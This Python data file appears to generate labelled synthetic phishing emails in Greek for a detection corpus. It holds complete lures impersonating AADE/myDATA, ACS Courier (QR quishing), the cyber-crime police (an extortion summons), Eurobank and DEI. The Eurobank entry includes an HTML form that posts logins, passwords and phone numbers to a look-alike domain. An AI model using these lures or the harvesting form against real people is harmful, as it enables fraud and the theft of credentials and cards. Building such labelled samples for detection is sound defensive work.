"""Attack messages 32-36 (Greek)."""

from dsl import *  # noqa: F401,F403

M = A("attack")

# ---------------------------------------------------------------- 32 AADE / myDATA via SES
_url32 = "https://www1.aade-mydata.gr.com/taxisnet/mydata/apokliseis?afm=" + VAT["example_gr"]
_plain32 = dedent("""
    Ανεξάρτητη Αρχή Δημοσίων Εσόδων – myDATA

    Ειδοποίηση απόκλισης διαβιβασθέντων παραστατικών

    Επωνυμία: EXAMPLE GROUP HELLAS ΜΟΝΟΠΡΟΣΩΠΗ Α.Ε.
    ΑΦΜ: %s
    Περίοδος: Γ΄ τρίμηνο 2026

    Αγαπητέ φορολογούμενε,

    κατά τη διασταύρωση των στοιχείων της ηλεκτρονικής πλατφόρμας myDATA διαπιστώθηκαν αποκλίσεις μεταξύ των χαρακτηρισμών εσόδων που διαβίβασε η επιχείρησή σας και των αντίστοιχων χαρακτηρισμών εξόδων των αντισυμβαλλομένων σας (17 παραστατικά).

    Η μη διόρθωση των αποκλίσεων εντός πέντε (5) ημερών επισύρει πρόστιμο ανά παραστατικό σύμφωνα με τις διατάξεις του Κώδικα Φορολογικής Διαδικασίας.

    Συνδεθείτε με τους κωδικούς TAXISnet για να δείτε την αναλυτική κατάσταση και να προβείτε στις διορθώσεις:
    %s

    Το μήνυμα δημιουργήθηκε αυτόματα. Παρακαλούμε μην απαντάτε.
    """) % (VAT["example_gr"], _url32)
_html32 = notice_html(
    "Ειδοποίηση απόκλισης διαβιβασθέντων παραστατικών",
    ["Επωνυμία: <b>EXAMPLE GROUP HELLAS ΜΟΝΟΠΡΟΣΩΠΗ Α.Ε.</b><br>ΑΦΜ: %s<br>Περίοδος: Γ΄ τρίμηνο 2026" % VAT["example_gr"],
     "Αγαπητέ φορολογούμενε,",
     "κατά τη διασταύρωση των στοιχείων της ηλεκτρονικής πλατφόρμας myDATA διαπιστώθηκαν αποκλίσεις μεταξύ των χαρακτηρισμών εσόδων που διαβίβασε η επιχείρησή σας και των αντίστοιχων χαρακτηρισμών εξόδων των αντισυμβαλλομένων σας (<b>17 παραστατικά</b>).",
     "Η μη διόρθωση των αποκλίσεων <b>εντός πέντε (5) ημερών</b> επισύρει πρόστιμο ανά παραστατικό σύμφωνα με τις διατάξεις του Κώδικα Φορολογικής Διαδικασίας.",
     "Συνδεθείτε με τους κωδικούς TAXISnet για να δείτε την αναλυτική κατάσταση και να προβείτε στις διορθώσεις."],
    "Σύνδεση με κωδικούς TAXISnet", _url32,
    "Ανεξάρτητη Αρχή Δημοσίων Εσόδων · Το μήνυμα δημιουργήθηκε αυτόματα. Παρακαλούμε μην απαντάτε.",
    color="#003476", logo_text="ΑΑΔΕ &middot; myDATA", lang="el")
M(32, "el", "aade-mydata-apokliseis",
  ("ΑΑΔΕ - myDATA", "noreply@aade-mydata.gr.com"), STAFF["gr_acc"],
  "ΑΑΔΕ myDATA: Απόκλιση παραστατικών Γ΄ τριμήνου 2026 – προθεσμία 5 ημερών", "2026-10-21 09:10:48",
  P(infra.ses, region="eu-central-1"),
  alt(text(_plain32, "utf-8", "base64"), html(_html32, "utf-8", "base64")),
  hcs="UTF-8", henc="B",
  what="'AADE / myDATA' claims mismatched e-invoice classifications and fines, asks to log in with TAXISnet credentials",
  why="National tax authority and e-books (myDATA) pretext; domain aade-mydata.gr.com (CentralNic .gr.com, not aade.gr / gsis.gr) sent through Amazon SES; TAXISnet credential harvesting; 5-day threat",
  technique="Credential phishing with tax office / e-invoicing pretext (AADE myDATA, TAXISnet), .gr.com look-alike, Amazon SES")

# ---------------------------------------------------------------- 33 ACS courier QR code as PNG attachment (compromised mailbox)
_url33 = "https://acs-gr-paradosi.com/p/7284419063"
_png33 = img.qr_png(_url33, scale=6)
_body33 = dedent("""
    Αγαπητέ πελάτη,

    Η αποστολή με αριθμό 7284419063 (αποστολέας: Example Group GmbH, Hagen DE – 2 δέματα) έφτασε στο κέντρο διαλογής Θεσσαλονίκης (Σίνδος). Λόγω ελλιπών στοιχείων διεύθυνσης η παράδοση δεν ήταν δυνατή.

    Για να προγραμματίσετε νέα παράδοση, σκανάρετε τον κωδικό QR του συνημμένου με την κάμερα του κινητού σας, επιβεβαιώστε τη διεύθυνση και εξοφλήστε τα τέλη επαναπαράδοσης (2,99 €) εντός 48 ωρών. Μετά την παρέλευση της προθεσμίας η αποστολή επιστρέφεται στον αποστολέα.

    Ευχαριστούμε για την προτίμηση.
    ACS Courier – Εξυπηρέτηση Πελατών
    """)
s33 = M(33, "el", "acs-courier-qr-png",
        ("ACS Courier", "info@fotistika-tsolakidis.gr"), STAFF["gr_mgr"],
        "ACS Courier: Η αποστολή σας 7284419063 είναι σε αναμονή", "2026-11-11 12:05:33",
        P(infra.hosted, provider="otenet", client_ip="94.66.57.140", mailer="outlook", lang="el", zone="GR"),
        mixed(text(_body33, "windows-1253", "quoted-printable"),
              attach(_png33, "image/png", "ACS_7284419063.png")),
        hcs="windows-1253", henc="B",
        what="'ACS Courier': parcel from HQ on hold, scan the attached QR to reschedule and pay a EUR 2.99 redelivery fee",
        why="Courier display name on a compromised mailbox of an unrelated lighting shop (OTEnet SMTP); the only link is inside a QR PNG attachment, leading to acs-gr-paradosi.com (not acscourier.net) for card theft; small fee + 48 h deadline",
        technique="Quishing via QR code in a PNG attachment, courier pretext, compromised small-business mailbox (OTEnet)")
s33.qr_urls = [_url33]

# ---------------------------------------------------------------- 34 fake police summons (extortion), PDF, iso-8859-7
_pdf34 = pdf.make_pdf([
    "# ELLINIKI ASTYNOMIA", "Diefthynsi Dioxis Ilektronikou Enklimatos", "Leof. Alexandras 173, 115 22 Athina", "---",
    "Arithmos fakelou: 2026/DIE/4471                       Athina, 30/11/2026", "",
    "# KLISI GIA PAROCHI EXIGISEON", "",
    "Pros: PAPADOPOULOS GEORGIOS", "",
    "Kata tin diarkeia ilektronikis erevnas se synergasia me tin Europol entopistikan syndeseis",
    "apo syskeves pou syndeontai me ton logariasmo sas se istotopous me paranomo periechomeno.",
    "Oi praxeis afti diokontai kata ta arthra 348A kai 348B tou Poinikou Kodika.", "",
    "Kaleiste na apostilete tis exigiseis sas grapta, entos 72 oron, apokleistika stin",
    "ilektroniki dieythynsi tis ypothesis. Se antitheti periptosi o fakelos diavivazetai",
    "stin Eisangelia kai i ypothesi kathistatai dimosia.", "",
    "O Dieythyntis", "Taxiarchos K. Michailidis", "---", "Emp. / Ektheto - mi koinopoieite to paron"],
    title="Klisi 2026-DIE-4471", author="DIE", creator="Microsoft Word", producer="Microsoft: Print To PDF",
    created="D:20261130191244+02'00'")
_body34 = dedent("""
    Κύριε Παπαδόπουλε,

    Σας κοινοποιούμε συνημμένα κλήση της Διεύθυνσης Δίωξης Ηλεκτρονικού Εγκλήματος σχετικά με την υπόθεση 2026/ΔΗΕ/4471, η οποία αφορά εντοπισμό πρόσβασης σε παράνομο περιεχόμενο από συσκευές που συνδέονται με τον λογαριασμό σας.

    Παρακαλείστε να αποστείλετε τις γραπτές εξηγήσεις σας εντός 72 ωρών, απαντώντας αποκλειστικά σε αυτό το μήνυμα. Μετά την παρέλευση της προθεσμίας ο φάκελος θα διαβιβαστεί στην Εισαγγελία και θα ενημερωθεί ο εργοδότης σας.

    Το παρόν είναι εμπιστευτικό. Μην το κοινοποιήσετε σε τρίτους.

    Διεύθυνση Δίωξης Ηλεκτρονικού Εγκλήματος
    Ελληνική Αστυνομία
    """)
M(34, "el", "psevdis-klisi-astynomias",
  ("Δίωξη Ηλεκτρονικού Εγκλήματος", "klisi@cybercrime-astynomia.gr.com"), STAFF["gr_mgr"],
  "Κλήση για παροχή εξηγήσεων - Υπόθεση 2026/ΔΗΕ/4471", "2026-11-30 19:14:27",
  P(infra.vps, helo="mail.cybercrime-astynomia.gr.com", rdns="unknown", ip="91.92.243.118",
    client_ip="91.92.243.118", mailer="outlook", zone="GR"),
  mixed(text(_body34, "iso-8859-7", "quoted-printable"),
        attach(_pdf34, "application/pdf", "Klisi_2026_DIE_4471.pdf")),
  reply_to=("Δίωξη Ηλεκτρονικού Εγκλήματος", "die.fakelos4471@gmail.com"),
  hcs="iso-8859-7", henc="B",
  what="'Cyber-crime police' summons the Greek office manager to explain 'access to illegal content' within 72 h by e-mail, PDF summons attached",
  why="Fake police convocation (extortion scam: payment is demanded in the follow-up); domain cybercrime-astynomia.gr.com on a host without rDNS, reply goes to Gmail; real police do not summon by e-mail; threats to inform prosecutor and employer",
  technique="Extortion / fake law-enforcement summons with PDF, replies diverted to Gmail")

# ---------------------------------------------------------------- 35 Eurobank remittance advice as HTML attachment
_html35_att = """<!DOCTYPE html>
<html lang="el"><head><meta charset="utf-8"><title>Eurobank - Ειδοποίηση εμβάσματος</title>
<style>body{font-family:Arial,sans-serif;background:#eef1f5;margin:0}.c{width:400px;margin:50px auto;background:#fff;padding:28px;border-top:5px solid #c8102e}
h2{font-size:18px;color:#c8102e}label{font-size:13px;color:#444}input{width:100%;padding:8px;margin:4px 0 12px;border:1px solid #bbb}
button{background:#c8102e;color:#fff;border:0;padding:10px;width:100%;font-size:15px}.m{font-size:13px;background:#f7f7f7;padding:10px;margin-bottom:14px}</style></head>
<body><div class="c"><h2>Eurobank e-Banking Business</h2>
<div class="m">Εισερχόμενο έμβασμα SWIFT MT103<br>Εντολέας: KESSLER ANTRIEBSTECHNIK GMBH<br>Ποσό: EUR 38.460,00<br>Κατάσταση: σε αναμονή επιβεβαίωσης δικαιούχου</div>
<form method="post" action="https://eurobank-ebanking.gr.com/business/auth.php">
<label>Κωδικός χρήστη</label><input name="user"><label>Κωδικός πρόσβασης</label><input name="pass" type="password">
<label>Κινητό τηλέφωνο (για κωδικό OTP)</label><input name="mob">
<button type="submit">Σύνδεση και προβολή εμβάσματος</button></form></div></body></html>
"""
_body35 = dedent("""
    Αξιότιμε πελάτη,

    Σας ενημερώνουμε ότι έχει πιστωθεί υπέρ της εταιρείας σας εισερχόμενο έμβασμα από το εξωτερικό, το οποίο παραμένει σε αναμονή έως την επιβεβαίωση των στοιχείων του δικαιούχου.

    Στο συνημμένο αρχείο θα βρείτε την ειδοποίηση εμβάσματος (MT103). Για την προβολή του απαιτείται σύνδεση στο e-Banking.

    Με εκτίμηση,
    Eurobank – Τμήμα Διεθνών Συναλλαγών
    """)
M(35, "el", "eurobank-emvasma-html",
  ("Eurobank Business", "noreply@eurobank-ebanking.gr.com"), STAFF["gr_acc"],
  "Ειδοποίηση εισερχόμενου εμβάσματος SWIFT – σε αναμονή επιβεβαίωσης", "2026-12-04 11:48:59",
  P(infra.vps, helo="eurobank-ebanking.gr.com", rdns="static.34.88.69.159.clients.your-server.de", ip="159.69.88.34",
    client_ip="127.0.0.1", mailer="PHPMailer 6.9.1 (https://github.com/PHPMailer/PHPMailer)", zone="UTC", nohop=True),
  mixed(text(_body35, "utf-8", "8bit"),
        attach(_html35_att.encode("utf-8"), "text/html", "Eurobank_MT103_EUR38460.html", charset="utf-8")),
  hcs="UTF-8", henc="B",
  what="'Eurobank' says an incoming SWIFT payment from a customer awaits confirmation; HTML attachment asks for e-banking login and phone number",
  why="HTML attachment credential phishing: form posts user, password and mobile (for OTP interception) to eurobank-ebanking.gr.com; uses a real customer name (Kessler) as bait; PHPMailer on a Hetzner VPS",
  technique="HTML attachment credential phishing, bank pretext, look-alike .gr.com domain, PHPMailer on VPS")

# ---------------------------------------------------------------- 36 DEI electricity disconnection via Brevo
_url36 = "https://mydei-pliromi.gr.com/mk/cl/f/sh/7Hq2Z0pLwXbK3sV9d/p?ar=2348819064"
_plain36 = dedent("""
    ΔΕΗ – Ειδοποίηση διακοπής ηλεκτροδότησης

    Αριθμός παροχής: 2 34881906-04 8
    Ληξιπρόθεσμο υπόλοιπο: 1.284,17 €

    Αγαπητέ πελάτη,

    παρά τις προηγούμενες ειδοποιήσεις, ο λογαριασμός της εγκατάστασής σας στη ΒΙ.ΠΕ. Σίνδου παραμένει απλήρωτος. Σε περίπτωση μη εξόφλησης εντός 48 ωρών θα δοθεί εντολή διακοπής ηλεκτροδότησης στον ΔΕΔΔΗΕ και θα χρεωθούν τέλη επανασύνδεσης.

    Εξοφλήστε άμεσα με κάρτα μέσω myΔΕΗ:
    %s

    ΔΕΗ Α.Ε. – Εξυπηρέτηση Πελατών 11770
    """) % _url36
_html36 = notice_html(
    "Ειδοποίηση διακοπής ηλεκτροδότησης",
    ["Αριθμός παροχής: <b>2 34881906-04 8</b><br>Ληξιπρόθεσμο υπόλοιπο: <b>1.284,17 €</b>",
     "Αγαπητέ πελάτη,",
     "παρά τις προηγούμενες ειδοποιήσεις, ο λογαριασμός της εγκατάστασής σας στη ΒΙ.ΠΕ. Σίνδου παραμένει απλήρωτος. Σε περίπτωση μη εξόφλησης <b>εντός 48 ωρών</b> θα δοθεί εντολή διακοπής ηλεκτροδότησης στον ΔΕΔΔΗΕ και θα χρεωθούν τέλη επανασύνδεσης."],
    "Εξόφληση με κάρτα", _url36, "ΔΕΗ Α.Ε. – Εξυπηρέτηση Πελατών 11770",
    color="#0062a7", logo_text="ΔΕΗ &middot; myΔΕΗ", lang="el")
M(36, "el", "dei-diakopi-revmatos-brevo",
  ("ΔΕΗ myΔΕΗ", "noreply@mydei-pliromi.gr.com"), STAFF["gr_mgr"],
  "Ειδοποίηση διακοπής ηλεκτροδότησης – ληξιπρόθεσμο υπόλοιπο 1.284,17 €", "2026-12-09 08:30:00",
  P(infra.brevo),
  alt(text(_plain36, "utf-8", "quoted-printable"), html(_html36, "utf-8", "quoted-printable")),
  hcs="UTF-8", henc="B",
  what="'DEI (Greek power utility)': overdue bill of EUR 1,284.17, power cut in 48 h, pay by card",
  why="Utility pretext with disconnection threat; domain mydei-pliromi.gr.com (real: dei.gr), card-payment page harvests card data; bulk-sent via Brevo; utility bills of the office are paid by direct debit",
  technique="Payment-card phishing with utility disconnection threat, .gr.com look-alike, bulk ESP Brevo")
